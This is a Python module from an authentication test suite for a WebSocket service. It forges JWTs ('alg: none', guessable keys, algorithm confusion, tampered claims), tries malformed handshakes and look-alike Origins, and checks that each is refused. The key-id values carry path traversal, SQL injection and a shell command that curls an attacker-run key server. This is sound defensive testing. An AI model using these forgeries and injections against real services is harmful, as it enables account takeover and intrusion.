"""The attack catalogue: forged tokens, odd handshakes and foreign origins, tried everywhere.

Each attack has the name a feature gives it ("a token that names no algorithm"). A forged
token changes only what the signature alone protects: it keeps the victim's real user,
session, issuer, audience and expiry, so nothing but the signature check can refuse it
(unless the attack is about a claim, then only that claim differs and it is correctly
signed). Every forged token is tried in every carrier and at every socket address of one
instance, all at once, over raw upgrade requests (support/raw_frames.py), and every
answer is checked: refused before any socket opens, with the documented status, a body
that says no more than the plain refusal, never a 5xx. A failure names the attack, the
carrier and the address. Every token minted here is registered with the redactor.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import json
import os
import time
import uuid
import weakref
from dataclasses import dataclass, field
from typing import Awaitable, Callable
from urllib.parse import urlsplit

from .accounts import SessionTokens
from .instances import Instance
from .key_url_listener import KeyUrlListener
from .raw_frames import TEXT, RawFrameClient, UpgradeAnswer, send_upgrade, upgrade_request
from .tokens import TokenFactory
from .world import Remembered, remembered

# The carriers of docs/contract.md section 4, and the socket addresses of the config document.
CARRIERS = ("bearer header", "prefixed subprotocol", "encoded subprotocol")
ENDPOINTS = ("websocket", "user", "versioned", "mcp")
MARKER = "jwt-auth"
# Words a refusal must not hold: they tell an attacker why it refused (support/questions.py has the same idea).
REVEALING = ("signature", "expired", "issuer", "audience", "traceback", "exception", "jwt", "sql", "select ",
             "postgres", "redis", "claim", "algorithm", "kid", "jku", "x5u", "jwk", "crit", 'file "')
# At most this many upgrade requests of one attack are in flight at once.
IN_FLIGHT = 24
DAY = 86400


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _segment(value: dict) -> str:
    return _b64(json.dumps(value, separators=(",", ":")).encode())


def compact(header: dict, claims: dict, signature: bytes | str | None) -> str:
    """A compact JWS; ``signature`` None leaves the third part off, "" leaves it empty."""
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    if signature is None:
        return signing_input
    return f"{signing_input}.{signature if isinstance(signature, str) else _b64(signature)}"


def hmac_signed(header: dict, claims: dict, key: str | bytes, digest=hashlib.sha256) -> str:
    """``header`` and ``claims`` with an HMAC over them under ``key``, whatever ``header`` says."""
    signing_input = f"{_segment(header)}.{_segment(claims)}".encode()
    key = key.encode() if isinstance(key, str) else key
    return compact(header, claims, hmac.new(key, signing_input, digest).digest())


@dataclass
class ForgeKit:
    """What forging needs: the target's key and claims, the victim, and the attacker's key URL.

    ``someone_else`` and ``signed_out`` are obtained the first time an attack needs them
    (a second customer's tokens; a session of the victim's that was signed out).
    """

    tokens: TokenFactory
    victim: SessionTokens
    key_url: str
    someone_else: Callable[[], Awaitable[SessionTokens]]
    signed_out: Callable[[], Awaitable[SessionTokens]]
    register: Callable[[str], None]  # the redactor's: every token made here is a secret

    def claims(self, **changes) -> dict:
        """The victim's real claims, freshly dated, with ``changes`` (a value of ... removes the claim)."""
        now = int(time.time())
        claims = {"sub": self.victim.user_id, "sid": self.victim.session_id, "iat": now, "exp": now + 300,
                  "iss": self.tokens.issuer, "aud": self.tokens.audience, "jti": uuid.uuid4().hex}
        for name, value in changes.items():
            if value is ...:
                claims.pop(name, None)
            else:
                claims[name] = value
        return claims

    def signed(self, claims: dict, header: dict | None = None, digest=hashlib.sha256) -> str:
        """Correctly signed with the target's own secret (an HMAC target)."""
        return hmac_signed(header or {"alg": "HS256", "typ": "JWT"}, claims, self.tokens.signing_key, digest)


Forge = Callable[[ForgeKit], Awaitable[str]]
FORGED_TOKENS: dict[str, tuple[str, Forge]] = {}


def forged(name: str, family: str):
    def register(forge: Forge) -> Forge:
        FORGED_TOKENS[name] = (family, forge)
        return forge
    return register


def _none(alg: str, signed: bool) -> Forge:
    async def forge(kit: ForgeKit) -> str:
        header, claims = {"alg": alg, "typ": "JWT"}, kit.claims()
        if signed:  # the real key's HMAC over exactly this input: only the algorithm check refuses it
            return hmac_signed(header, claims, kit.tokens.signing_key)
        return compact(header, claims, "")
    return forge


SIGNATURE = "signature and algorithm"
for _alg in ("none", "None", "NONE", "nOnE"):
    forged(f'a token that names the algorithm "{_alg}"', SIGNATURE)(_none(_alg, signed=False))
forged('a token that names the algorithm "none" and keeps a real signature', SIGNATURE)(_none("none", signed=True))


@forged("a token whose signature is stripped", SIGNATURE)
async def _stripped(kit):
    return kit.signed(kit.claims()).rsplit(".", 1)[0]


@forged("a token with an empty signature", SIGNATURE)
async def _empty_signature(kit):
    return kit.signed(kit.claims()).rsplit(".", 1)[0] + "."


@forged("a token with a signature borrowed from another token", SIGNATURE)
async def _borrowed(kit):
    header_payload = kit.signed(kit.claims(exp=int(time.time()) + 10 * 365 * DAY)).rsplit(".", 1)[0]
    return header_payload + "." + kit.victim.access_token.rsplit(".", 1)[1]


@forged("a token whose claims were changed after signing", SIGNATURE)
async def _tampered(kit):
    real = kit.signed(kit.claims()).split(".")
    return ".".join([real[0], _segment(kit.claims(exp=int(time.time()) + 10 * 365 * DAY)), real[2]])


for _alg, _digest in (("HS384", hashlib.sha384), ("HS512", hashlib.sha512)):
    def _switched(kit, alg=_alg, digest=_digest):
        async def run():
            return kit.signed(kit.claims(), {"alg": alg, "typ": "JWT"}, digest)
        return run()
    forged(f"a token signed with {_alg} instead of the advertised algorithm", SIGNATURE)(_switched)

for _alg, _size in (("RS256", 256), ("ES256", 64)):
    def _hmac_as(kit, alg=_alg):
        async def run():
            return hmac_signed({"alg": alg, "typ": "JWT"}, kit.claims(), kit.tokens.signing_key)
        return run()

    def _random_as(kit, alg=_alg, size=_size):
        async def run():
            return compact({"alg": alg, "typ": "JWT"}, kit.claims(), os.urandom(size))
        return run()
    forged(f"a token that claims {_alg} with an HMAC signature", SIGNATURE)(_hmac_as)
    forged(f"a token that claims {_alg} with a random signature", SIGNATURE)(_random_as)


@forged("a token that names no algorithm", SIGNATURE)
async def _no_alg(kit):
    return hmac_signed({"typ": "JWT"}, kit.claims(), kit.tokens.signing_key)


@forged("a token that names its algorithm in small letters", SIGNATURE)
async def _small_letters(kit):
    return hmac_signed({"alg": "hs256", "typ": "JWT"}, kit.claims(), kit.tokens.signing_key)


# Keys anyone can guess: the word, the jwt.io example, nothing, and defaults once published.
WEAK_KEYS = {"the common key \"secret\"": "secret", "the jwt.io example key": "your-256-bit-secret",
             "an empty key": "", "the old published default key": "change-me-in-production",
             "the key \"password\"": "password"}
for _words, _key in WEAK_KEYS.items():
    def _weak(kit, key=_key):
        async def run():
            return hmac_signed({"alg": "HS256", "typ": "JWT"}, kit.claims(), key)
        return run()
    forged(f"a token signed with {_words}", SIGNATURE)(_weak)


HEADER = "header injection"
ATTACKER_KEY = "attacker-chosen-key"


def _with_header(extra: Callable[[ForgeKit], dict], key: str | None = ATTACKER_KEY, alg: str = "HS256") -> Forge:
    async def forge(kit: ForgeKit) -> str:
        header = {"alg": alg, "typ": "JWT", **extra(kit)}
        if key is None:
            return compact(header, kit.claims(), os.urandom(256))
        return hmac_signed(header, kit.claims(), key)
    return forge


forged("a token whose key id climbs out of the key folder", HEADER)(
    _with_header(lambda kit: {"kid": "../../../../../../../dev/null"}, key=""))
forged("a token whose key id is an SQL injection", HEADER)(
    _with_header(lambda kit: {"kid": f"nothing' UNION SELECT '{ATTACKER_KEY}' -- "}))
forged("a token whose key id runs a shell command", HEADER)(
    _with_header(lambda kit: {"kid": f"key|curl -s {kit.key_url}/kid-command; echo {ATTACKER_KEY}"}))
forged("a token whose key id is the attacker's address", HEADER)(
    _with_header(lambda kit: {"kid": f"{kit.key_url}/kid.pem"}))
forged("a token that points to the attacker's key set", HEADER)(
    _with_header(lambda kit: {"jku": f"{kit.key_url}/.well-known/jwks.json"}, key=None, alg="RS256"))
forged("a token that points to the attacker's certificate", HEADER)(
    _with_header(lambda kit: {"x5u": f"{kit.key_url}/certificate.pem"}, key=None, alg="RS256"))
forged("a token that carries its own secret key", HEADER)(
    _with_header(lambda kit: {"jwk": {"kty": "oct", "k": _b64(ATTACKER_KEY.encode())}}))
forged("a token that carries its own public key", HEADER)(
    _with_header(lambda kit: {"jwk": {"kty": "RSA", "e": "AQAB", "n": _b64(os.urandom(256))}}, key=None,
                 alg="RS256"))


@forged("a token with an unknown critical extension", HEADER)
async def _unknown_crit(kit):
    # Correctly signed: only honouring `crit` (RFC 7515, 4.1.11) refuses it.
    return kit.signed(kit.claims(), {"alg": "HS256", "typ": "JWT", "crit": ["urn:example:never-heard-of"],
                                     "urn:example:never-heard-of": True})


CLAIMS = "claims"


def _claims(**changes) -> Forge:
    async def forge(kit: ForgeKit) -> str:
        resolved = {name: value(kit) if callable(value) else value for name, value in changes.items()}
        return kit.signed(kit.claims(**resolved))
    return forge


def _now(offset: int) -> Callable[[ForgeKit], int]:
    return lambda kit: int(time.time()) + offset


forged("a token without an expiry", CLAIMS)(_claims(exp=...))
forged("a token that expired a year ago", CLAIMS)(_claims(exp=_now(-365 * DAY), iat=_now(-365 * DAY - 900)))
forged("a token that expired a second ago", CLAIMS)(_claims(exp=_now(-1), iat=_now(-901)))
forged("a token whose expiry is not a number", CLAIMS)(_claims(exp="tomorrow"))
forged("a token that is not valid until tomorrow", CLAIMS)(_claims(nbf=_now(DAY)))
forged("a token issued tomorrow", CLAIMS)(_claims(iat=_now(DAY), exp=_now(DAY + 300)))
for _claim, _word in (("iss", "issuer"), ("aud", "audience")):
    _real = (lambda kit, c=_claim: kit.tokens.issuer if c == "iss" else kit.tokens.audience)
    forged(f"a token without an {_word}" if _word[0] in "aeiou" else f"a token without a {_word}", CLAIMS)(
        _claims(**{_claim: ...}))
    forged(f"a token with another {_word}", CLAIMS)(_claims(**{_claim: "https://another.example.net"}))
    forged(f"a token whose {_word} is part of the real one", CLAIMS)(
        _claims(**{_claim: lambda kit, real=_real: real(kit)[: max(1, len(real(kit)) - 3)]}))
    forged(f"a token whose {_word} contains the real one", CLAIMS)(
        _claims(**{_claim: lambda kit, real=_real: real(kit) + ".evil.test"}))
    forged(f"a token whose {_word} is null", CLAIMS)(_claims(**{_claim: None}))
forged("a token whose issuer is a list holding the real one", CLAIMS)(
    _claims(iss=lambda kit: [kit.tokens.issuer, "https://another.example.net"]))
forged("a token for a list of other audiences", CLAIMS)(
    _claims(aud=lambda kit: ["another-product", kit.tokens.audience + "-staging"]))
forged("a token without a user", CLAIMS)(_claims(sub=...))
forged("a token without a session", CLAIMS)(_claims(sid=...))
forged("a token without a token id", CLAIMS)(_claims(jti=...))
forged("a token whose user is not an id", CLAIMS)(_claims(sub="admin"))
forged("a token whose session is not an id", CLAIMS)(_claims(sid="' OR '1'='1"))
forged("a token for someone who has no account", CLAIMS)(
    _claims(sub=lambda kit: str(uuid.uuid4()), sid=lambda kit: str(uuid.uuid4())))


@forged("a token for someone else's account with her session", CLAIMS)
async def _other_user(kit):
    return kit.signed(kit.claims(sub=(await kit.someone_else()).user_id))


@forged("a token for her account with someone else's session", CLAIMS)
async def _other_session(kit):
    return kit.signed(kit.claims(sid=(await kit.someone_else()).session_id))


@forged("a token of a session she signed out of", CLAIMS)
async def _signed_out(kit):
    return kit.signed(kit.claims(sid=(await kit.signed_out()).session_id))


@forged("her refresh token used as an access token", CLAIMS)
async def _refresh(kit):
    return kit.victim.refresh_token


# -- carrying a token ----------------------------------------------------------------------

def carried(carrier: str, token: str) -> list[tuple[str, str]]:
    """The request headers that carry ``token`` as ``carrier`` says (docs/contract.md, section 4)."""
    if carrier == "bearer header":
        return [("Authorization", f"Bearer {token}")]
    if carrier == "prefixed subprotocol":
        return [("Sec-WebSocket-Protocol", f"{MARKER}, jwt.{token}")]
    if carrier == "encoded subprotocol":
        return [("Sec-WebSocket-Protocol", f"{MARKER}, {_b64(token.encode())}")]
    raise ValueError(f"unknown carrier {carrier!r}; expected one of {', '.join(CARRIERS)}")


@dataclass(frozen=True)
class Attempt:
    """One try of one attack: how it was carried, where, and what the service answered."""

    attack: str
    carrier: str
    endpoint: str
    answer: UpgradeAnswer

    def where(self) -> str:
        return f"{self.attack!r} in the {self.carrier} at {self.endpoint}"


@dataclass
class AttackRun:
    """Every attempt of one attack, and the plain refusal its answers are compared with."""

    attack: str
    attempts: list[Attempt]
    baseline: UpgradeAnswer
    redact: Callable[[str], str] = field(default=lambda text: text)


# -- handshakes of odd shapes (AUTH-10) -----------------------------------------------------

@dataclass(frozen=True)
class Shape:
    """A handshake of a shape no honest client sends: its headers, and how the request is written."""

    headers: list[tuple[str, str | bytes]]
    http_version: str = "HTTP/1.1"
    key: str | None = ""
    websocket_version: str | None = "13"
    query: str = ""


ShapeMaker = Callable[[ForgeKit, str], Awaitable[Shape]]
HANDSHAKE_SHAPES: dict[str, ShapeMaker] = {}


def shape(name: str):
    def register(maker: ShapeMaker) -> ShapeMaker:
        HANDSHAKE_SHAPES[name] = maker
        return maker
    return register


async def _forged_token(kit: ForgeKit) -> str:
    token = await FORGED_TOKENS['a token that names the algorithm "none"'][1](kit)
    kit.register(token)
    return token


def _scheme(written: str) -> ShapeMaker:
    async def make(kit, origin):
        return Shape([("Authorization", written.format(token=await _forged_token(kit)))])
    return make


shape("the bearer scheme in capitals carrying a forged token")(_scheme("BEARER {token}"))
shape("the bearer scheme in small letters carrying a forged token")(_scheme("bearer {token}"))
shape("extra spaces around a forged bearer token")(_scheme("Bearer    {token}   "))


@shape("the Basic scheme carrying her token")
async def _basic(kit, origin):
    return Shape([("Authorization", f"Basic {kit.victim.access_token}")])


@shape("her token twice in two Authorization headers")
async def _twice(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token) * 2)


@shape("two Authorization headers for her and someone else")
async def _two_people(kit, origin):
    other = await kit.someone_else()
    return Shape(carried("bearer header", kit.victim.access_token) + carried("bearer header", other.access_token))


@shape("a second credential for someone else")
async def _second_credential(kit, origin):
    other = await kit.someone_else()
    return Shape(carried("bearer header", kit.victim.access_token) +
                 [("Sec-WebSocket-Protocol", f"{MARKER}, jwt.{other.access_token}")])


@shape("a bearer token and an encoded token for someone else")
async def _bearer_and_encoded(kit, origin):
    other = await kit.someone_else()
    return Shape(carried("bearer header", kit.victim.access_token) + carried("encoded subprotocol", other.access_token))


@shape("two prefixed subprotocol tokens")
async def _two_prefixed(kit, origin):
    other = await kit.someone_else()
    return Shape([("Sec-WebSocket-Protocol", f"{MARKER}, jwt.{kit.victim.access_token}, jwt.{other.access_token}")])


@shape("her token both prefixed and encoded in the subprotocols")
async def _prefixed_and_encoded(kit, origin):
    token = kit.victim.access_token
    return Shape([("Sec-WebSocket-Protocol", f"{MARKER}, jwt.{token}, {_b64(token.encode())}")])


@shape("the marker protocol alone")
async def _marker_alone(kit, origin):
    return Shape([("Sec-WebSocket-Protocol", MARKER)])


@shape("the token prefix without a token")
async def _prefix_alone(kit, origin):
    return Shape([("Sec-WebSocket-Protocol", f"{MARKER}, jwt.")])


@shape("her token in the query string")
async def _query(kit, origin):
    return Shape([], query=f"?access_token={kit.victim.access_token}&token={kit.victim.access_token}")


@shape("her token in a cookie alone")
async def _cookie(kit, origin):
    token = kit.victim.access_token
    return Shape([("Cookie", f"access_token={token}; session={token}")])


@shape("bytes that are not ASCII in the Authorization header")
async def _not_ascii(kit, origin):
    return Shape([("Authorization", b"Bearer \xc3\xa9\xff" + kit.victim.access_token.encode())])


@shape("a token of 100 KB")
async def _huge_token(kit, origin):
    return Shape([("Authorization", "Bearer " + kit.victim.access_token + "A" * 100 * 1024)])


@shape("a header of 9 KB beside her token")
async def _huge_header(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token) + [("X-Padding", "p" * 9 * 1024)])


@shape("a subprotocol list of 100 KB")
async def _huge_subprotocols(kit, origin):
    return Shape([("Sec-WebSocket-Protocol", f"{MARKER}, " + ", ".join(["x" * 60] * 1600))])


@shape("a request line over 8 KB")
async def _long_line(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token), query="?pad=" + "q" * 9 * 1024)


@shape("more than 128 headers")
async def _many_headers(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token) + [(f"X-Extra-{n}", "1") for n in range(200)])


@shape("an upgrade in HTTP/1.0 with her token")
async def _http10(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token), http_version="HTTP/1.0")


@shape("an upgrade without a Sec-WebSocket-Key")
async def _no_key(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token), key=None)


@shape("an upgrade with a malformed Sec-WebSocket-Key")
async def _bad_key(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token), key="not-sixteen-bytes")


@shape("an upgrade for WebSocket version 8")
async def _version_8(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token), websocket_version="8")


@shape("an upgrade without a WebSocket version")
async def _no_version(kit, origin):
    return Shape(carried("bearer header", kit.victim.access_token), websocket_version=None)


# -- origins (LIM-03) ----------------------------------------------------------------------

def _origin_parts(own: str) -> tuple[str, str, str]:
    parts = urlsplit(own)
    return parts.scheme, parts.hostname or "", f":{parts.port}" if parts.port else ""


def _look_alike(make: Callable[[str, str, str, str], list[str | None]]) -> Callable[[str], list[str]]:
    def origins(own: str) -> list[str]:
        scheme, host, port = _origin_parts(own)
        return make(own, scheme, host, port)
    return origins


# The Origin headers of each look-alike, made from the product's own origin (None: no Origin at all).
ORIGINS: dict[str, Callable[[str], list[str]]] = {
    "another site": _look_alike(lambda own, s, h, p: ["https://evil.example.net"]),
    "a suffix look-alike": _look_alike(lambda own, s, h, p: [f"{own}.evil.test"]),
    "a prefix look-alike": _look_alike(lambda own, s, h, p: [own[:-1]]),
    "a look-alike with a hyphen": _look_alike(lambda own, s, h, p: [f"{s}://{h.replace('.', '-', 1)}{p}"]),
    "a subdomain": _look_alike(lambda own, s, h, p: [f"{s}://evil.{h}{p}"]),
    "another port": _look_alike(lambda own, s, h, p: [f"{s}://{h}:8443"]),
    "the default port written out": _look_alike(
        lambda own, s, h, p: [f"{s}://{h}:{443 if s == 'https' else 80}"] if not p else [f"{s}://{h}"]),
    "the http scheme": _look_alike(lambda own, s, h, p: [f"{'http' if s == 'https' else 'https'}://{h}{p}"]),
    "the WebSocket scheme": _look_alike(lambda own, s, h, p: [f"{'wss' if s == 'https' else 'ws'}://{h}{p}"]),
    "a sandboxed page": _look_alike(lambda own, s, h, p: ["null"]),
    "the address in capitals": _look_alike(lambda own, s, h, p: [own.upper()]),
    "a trailing slash": _look_alike(lambda own, s, h, p: [own + "/"]),
    "userinfo before another host": _look_alike(lambda own, s, h, p: [f"{own}@evil.test"]),
    "an empty origin": _look_alike(lambda own, s, h, p: [""]),
    "a comma list that starts with the product's own": _look_alike(lambda own, s, h, p: [f"{own}, https://evil.test"]),
    "two Origin headers, the product's own first": _look_alike(lambda own, s, h, p: [own, "https://evil.example.net"]),
    "the product's own origin twice": _look_alike(lambda own, s, h, p: [own, own]),
    "no origin on a service for browsers only": _look_alike(lambda own, s, h, p: []),
}


# -- trying attacks everywhere ------------------------------------------------------------

class AttackBench:
    """Tries attacks on one instance, in every carrier and at every socket address, all at once.

    ``origin`` is what every attempt sends as its Origin (the product's own web app), except
    in the Origin attacks, where it is the attack.
    """

    def __init__(self, instance: Instance, kit: ForgeKit, timeout: float, redact: Callable[[str], str]):
        self.instance = instance
        self.kit = kit
        self.timeout = timeout
        self.redact = redact
        self.origin = instance.default_origin
        self._gate = asyncio.Semaphore(IN_FLIGHT)

    def url(self, endpoint: str) -> str:
        return self.instance.socket_url(endpoint, self.kit.victim.user_id)

    async def _send(self, endpoint: str, headers: list, **request) -> UpgradeAnswer:
        url = self.url(endpoint)
        query = request.pop("query", "")
        target = urlsplit(url).path + query if query else None
        async with self._gate:
            return await send_upgrade(url, upgrade_request(url, headers, target=target, **request), self.timeout)

    def _origin_header(self) -> list[tuple[str, str]]:
        return [("Origin", self.origin)] if self.origin else []

    async def baseline(self) -> UpgradeAnswer:
        """The refusal of a handshake with no token at all: what every 401 must look like."""
        return await self._send("websocket", self._origin_header())

    async def forged_everywhere(self, attack: str) -> AttackRun:
        try:
            _, forge = FORGED_TOKENS[attack]
        except KeyError:
            raise ValueError(f"unknown forged token {attack!r}; the catalogue knows {len(FORGED_TOKENS)} "
                             f"(support/attacks.py FORGED_TOKENS)") from None
        token = await forge(self.kit)
        self.kit.register(token)

        async def attempt(carrier: str, endpoint: str) -> Attempt:
            answer = await self._send(endpoint, self._origin_header() + carried(carrier, token))
            return Attempt(attack, carrier, endpoint, answer)

        attempts = await asyncio.gather(*(attempt(c, e) for c in CARRIERS for e in ENDPOINTS))
        return AttackRun(attack, list(attempts), await self.baseline(), self.redact)

    async def shape_everywhere(self, attack: str) -> AttackRun:
        try:
            maker = HANDSHAKE_SHAPES[attack]
        except KeyError:
            raise ValueError(f"unknown kind of handshake {attack!r}; the catalogue knows "
                             f"{', '.join(HANDSHAKE_SHAPES)}") from None
        made = await maker(self.kit, self.origin)

        async def attempt(endpoint: str) -> Attempt:
            answer = await self._send(endpoint, self._origin_header() + made.headers, http_version=made.http_version,
                                      key=made.key, websocket_version=made.websocket_version, query=made.query)
            return Attempt(attack, "handshake as written", endpoint, answer)

        attempts = await asyncio.gather(*(attempt(e) for e in ENDPOINTS))
        return AttackRun(attack, list(attempts), await self.baseline(), self.redact)

    async def origin_everywhere(self, attack: str) -> AttackRun:
        if self.origin is None:
            raise AssertionError("the service publishes no allowed origin (/ws/secure/config allowed_origins), "
                                 "so no look-alike of it can be made")
        try:
            origins = ORIGINS[attack](self.origin)
        except KeyError:
            raise ValueError(f"unknown origin {attack!r}; the catalogue knows {', '.join(ORIGINS)}") from None
        if not origins and not self.instance.security.get("origin_required"):
            raise AssertionError(f"{self.instance} does not say it serves browsers only (origin_required is not "
                                 f"true in /ws/secure/config), so a handshake without an origin may pass there")
        token = self.kit.victim.access_token

        async def attempt(carrier: str, endpoint: str) -> Attempt:
            headers = [("Origin", value) for value in origins] + carried(carrier, token)
            return Attempt(attack, carrier, endpoint, await self._send(endpoint, headers))

        attempts = await asyncio.gather(*(attempt(c, e) for c in CARRIERS for e in ENDPOINTS))
        foreign = await self._send("websocket", [("Origin", "https://evil.example.net")] + carried(
            "bearer header", token))
        return AttackRun(attack, list(attempts), foreign, self.redact)

    async def normal_handshake(self) -> UpgradeAnswer:
        """The victim's own token, as her app sends it: after the catalogue, this still opens a socket."""
        return await self._send("websocket", self._origin_header() + carried("bearer header",
                                                                           self.kit.victim.access_token))


def family_of(attack: str) -> str:
    return FORGED_TOKENS[attack][0]


def check_refused_everywhere(run: AttackRun, statuses: set[int]) -> None:
    """Every attempt of the attack was refused before any socket opened, with one of ``statuses``,
    saying no more than the plain refusal (``run.baseline``); never accepted, never a 5xx.

    One line per wrong answer, each naming the attack, the carrier and the address.
    """
    expected = " or ".join(map(str, sorted(statuses)))
    problems = []
    for attempt in run.attempts:
        answer = attempt.answer
        if answer.status is None:
            problems.append(f"{attempt.where()}: no answer ({answer}); expected HTTP {expected}")
        elif answer.accepted:
            problems.append(f"{attempt.where()}: the handshake was accepted (101) and a socket opened; "
                            f"expected HTTP {expected} before any socket opens")
        elif answer.status >= 500:
            problems.append(f"{attempt.where()}: a server error, HTTP {answer.status}; expected HTTP {expected}")
        elif answer.status not in statuses:
            problems.append(f"{attempt.where()}: refused with HTTP {answer.status}; expected HTTP {expected}")
        else:
            revealing = [word.strip() for word in REVEALING if word in answer.body.lower()]
            if revealing:
                problems.append(f"{attempt.where()}: the refusal tells why ({', '.join(revealing)}): "
                                f"{answer.body[:200]!r}")
            elif answer.status in (401, 403) and answer.status == run.baseline.status \
                    and answer.body != run.baseline.body:
                problems.append(f"{attempt.where()}: the refusal says more than the plain one: "
                                f"{answer.body[:200]!r} versus {run.baseline.body[:200]!r}")
    if problems:
        shown = "\n  ".join(problems[:6]) + (f"\n  ... and {len(problems) - 6} more" if len(problems) > 6 else "")
        raise AssertionError(run.redact(f"{len(problems)} of {len(run.attempts)} attempts of {run.attack!r} were "
                                        f"not refused as they must be:\n  {shown}"))


def check_normal_handshake(answer: UpgradeAnswer, who: str) -> None:
    if not answer.accepted:
        raise AssertionError(f"after the attacks, {who}'s own token no longer opens a socket: {answer}")


# -- what the security steps leave for later ones, per scenario -----------------------------

class SecurityDesk:
    """One scenario's attacker: the key server, the last attack's attempts, the raw frame client."""

    key_server = Remembered("Given an attacker runs a key server of their own", "the attacker's key server")
    attack_run = Remembered("When an attacker presents a token that names no algorithm for Alice in every "
                            "carrier at every address", "an attack")
    raw_client = Remembered("When Alice's laptop sends the service a ping with 126 bytes of payload "
                            "(Autobahn 2.x)", "frames sent over a raw socket")
    breach = Remembered("When Alice's laptop sends the service a ping with 126 bytes of payload (Autobahn 2.x)",
                        "a protocol case")
    abuse = Remembered("When each of Alice's devices sends 3,000 nested arrays", "an abusive message")

    def __init__(self, cast):
        self.cast = cast

    async def start_key_server(self) -> KeyUrlListener:
        self.key_server = await KeyUrlListener().start()
        self.cast.connections.append(self.key_server)  # closed, and shown in the report, with the sockets
        return self.key_server

    def raw_client_of(self, actor, device: str) -> RawFrameClient:
        """The raw frame client, if it is ``actor``'s ``device``'s; refused in plain words otherwise."""
        client = self.raw_client
        if client.owner != str(actor.device(device)):
            raise AssertionError(f"the frames were sent from {client.owner}, not from {actor.device(device)}")
        return client

    def bench(self, victim, instance: Instance | None = None) -> "AttackBench":
        """A bench against ``victim`` (an Actor with an account) on the scenario's instance."""
        cast = self.cast
        instance = instance or cast.instance
        url = self.key_server.url if remembered(self, "key_server") else "http://127.0.0.1:9"
        device = victim.devices[victim.any_device_name()]
        other_name = "Bob" if victim.name != "Bob" else "Carol"

        async def someone_else() -> SessionTokens:
            other = cast.actor(other_name)
            if other.user_id is None:
                await other.sign_up("free")
            return other.devices[other.any_device_name()].tokens

        async def signed_out() -> SessionTokens:
            entry = await victim.sign_in("phone")
            await victim.sign_out("phone")
            return entry.tokens

        kit = ForgeKit(cast.tokens, device.tokens, url, _once(someone_else), _once(signed_out),
                       lambda token: cast.redactor.register(token, "forged token"))
        return AttackBench(instance, kit, cast.timeout, cast.redactor.redact)

    async def open_raw_client(self, actor, device: str) -> RawFrameClient:
        """``actor``'s ``device`` opens a socket with its own token, for frames no library would send."""
        entry = await actor.sign_in(device)
        instance = self.cast.instance
        client = RawFrameClient(f"{entry}")
        headers = carried("bearer header", entry.tokens.access_token)
        if instance.default_origin:
            headers.append(("Origin", instance.default_origin))
        self.cast.connections.append(client)
        await client.open(instance.socket_url(), headers, self.cast.timeout)
        if await client.wait_for(lambda frame: frame.opcode == TEXT, self.cast.timeout) is None:
            raise AssertionError(f"{entry}'s raw socket received no welcome frame")
        self.raw_client = client
        return client


def _once(make: Callable[[], Awaitable]) -> Callable[[], Awaitable]:
    """``make``, run the first time it is awaited; later calls get the same result."""
    done: list = []

    async def once():
        if not done:
            done.append(await make())
        return done[0]
    return once


_DESKS: "weakref.WeakKeyDictionary" = weakref.WeakKeyDictionary()


def desk_of(world) -> SecurityDesk:
    """The scenario's security desk, made on first use (kept with the world, gone with it)."""
    if world not in _DESKS:
        _DESKS[world] = SecurityDesk(world.cast)
    return _DESKS[world]
